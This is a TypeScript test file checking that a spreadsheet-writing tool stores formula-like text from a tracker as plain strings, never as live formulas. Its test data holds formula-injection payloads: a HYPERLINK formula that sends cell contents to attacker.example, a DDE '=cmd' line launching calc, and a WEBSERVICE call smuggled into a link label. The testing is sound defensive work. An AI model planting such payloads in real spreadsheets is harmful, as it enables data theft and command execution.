import ExcelJS from "exceljs";
import { join } from "node:path";
import { XlsxWorkbook } from "../../src/xlsx/XlsxWorkbook";
import { runCommand, AS_OF } from "../support/hostileRun";
import { addJointSheet, hostileFolder, jointRow, packagePart, writeCase } from "../support/hostileWorkbooks";
import { runsOf } from "../support/modelRuns";

const folder = hostileFolder("injection");

/** Text a spreadsheet could take for a formula (CSV injection's usual openings). */
const HOSTILE_TEXT = [
  '=HYPERLINK("http://attacker.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+44 7700 900123",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
] as const;

/** Every formula and hyperlink in a saved workbook, sheet by sheet. */
async function formulasAndLinks(
  path: string,
): Promise<{ formulas: string[]; links: string[]; texts: string[] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const formulas: string[] = [];
  const links: string[] = [];
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.formula);
        if (cell.type === ExcelJS.ValueType.String) texts.push(cell.text);
        if (cell.hyperlink) links.push(cell.hyperlink);
      }),
    ),
  );
  return { formulas, links, texts };
}

describe("text copied into outputs is written as text, never as a formula", () => {
  it("writes hostile text through XlsxWorkbook.writeSheet as strings, with no formula in the sheet's XML", async () => {
    const port = XlsxWorkbook.create();
    await port.writeSheet({
      name: "Agenda",
      purpose: "agenda",
      runs: HOSTILE_TEXT.map((value, i) => ({ row: i + 1, column: 1, values: [value] })),
    });
    const path = join(folder, "written.xlsx");
    await port.save(path);
    const { formulas, texts } = await formulasAndLinks(path);
    expect(formulas).toEqual([]);
    expect(texts).toEqual([...HOSTILE_TEXT]);
    expect(await packagePart(path, "xl/worksheets/sheet1.xml")).not.toMatch(/<f[ >]/);
  });

  it("keeps a link's hostile text inside one HYPERLINK to a cell of the workbook", async () => {
    const port = XlsxWorkbook.create();
    const text = '"),WEBSERVICE("http://attacker.example/"),("';
    await port.writeSheet({
      name: "Data quality",
      purpose: "dataQuality",
      runs: runsOf([{ row: 1, column: 1, value: text, link: { sheet: "Joint ' Tracker", cell: "B2" } }]),
    });
    const path = join(folder, "link.xlsx");
    await port.save(path);
    const { formulas } = await formulasAndLinks(path);
    expect(formulas).toEqual([
      'HYPERLINK("#\'Joint \'\' Tracker\'!B2","""),WEBSERVICE(""http://attacker.example/""),(""")',
    ]);
  });

  it("writes an agenda from a tracker full of formula-like names, teams and notes with no formula but its own links", async () => {
    const input = await writeCase(join(folder, "tracker.xlsx"), (wb) =>
      addJointSheet(
        wb,
        "Joint Tracker",
        HOSTILE_TEXT.map((text, i) =>
          jointRow(i + 1, { Name: text, "Social worker": text, Team: text, "Surgery notes": text }),
        ),
      ),
    );
    const out = join(folder, "agenda.xlsx");
    const run = await runCommand([
      "agenda",
      input,
      "--surgery",
      "joint-tracking",
      "--date",
      AS_OF,
      "--names",
      "--all",
      "--out",
      out,
    ]);
    expect(run.code).toBe(0);
    const { formulas, links, texts } = await formulasAndLinks(out);
    for (const formula of formulas) expect(formula).toMatch(/^HYPERLINK\("#/);
    for (const link of links) expect(link).toMatch(/^#/);
    // The hostile text did reach the agenda, as text.
    expect(texts.filter((t) => t.startsWith("=cmd")).length).toBeGreaterThan(0);
  });
});
